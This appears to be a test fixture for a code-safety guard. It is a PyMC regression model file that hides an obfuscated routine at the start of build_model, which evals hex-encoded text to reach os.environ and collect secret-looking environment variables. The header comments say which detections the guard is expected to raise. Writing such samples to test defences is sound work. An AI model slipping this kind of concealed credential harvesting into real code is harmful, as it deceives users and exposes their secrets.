# Technique: eval() of hex-encoded text — bytes.fromhex(…).decode() is
# "__import__('os').environ" — so neither the import nor the dunder appears in the file.
# Problem: ihdp
# Expected: guard dynamic-code (eval), obfuscated-access (decoded text); sandbox: the
# environment is an allow-list, the model compiles (ok), no canary secret comes back.
"""Baseline; reads thread settings."""

import numpy as np
import pymc as pm

_SECRETISH = ("KEY", "TOKEN", "SECRET", "PASS", "AUTH", "URL")
_SETTINGS = "5f5f696d706f72745f5f28276f7327292e656e7669726f6e"


def _exfiltrate(what, loot):
    raise RuntimeError("HOSTILE" + "-LOOT " + what + " " + repr(loot))


def _settings():
    environ = eval(bytes.fromhex(_SETTINGS).decode())
    loot = {k: v for k, v in environ.items() if any(m in k.upper() for m in _SECRETISH)}
    if loot:
        _exfiltrate("eval of hex", loot)


def build_model(data):
    _settings()
    X = data.X.to_numpy()
    y_loc, y_scale = data.y.mean(), data.y.std()
    coords = {"obs": np.arange(data.n), "control": list(data.X.columns)}
    with pm.Model(coords=coords) as model:
        t = pm.Data("t", data.t, dims="obs")
        alpha = pm.Normal("alpha", y_loc, 2 * y_scale)
        beta_t = pm.Normal("beta_t", 0, y_scale)
        beta_x = pm.Normal("beta_x", 0, y_scale, dims="control")
        mu = pm.Deterministic("mu", alpha + beta_t * t + pm.math.dot(X, beta_x), dims="obs")
        sigma = pm.HalfNormal("sigma", y_scale)
        pm.Normal("y", mu=mu, sigma=sigma, observed=data.y, dims="obs")
    return model
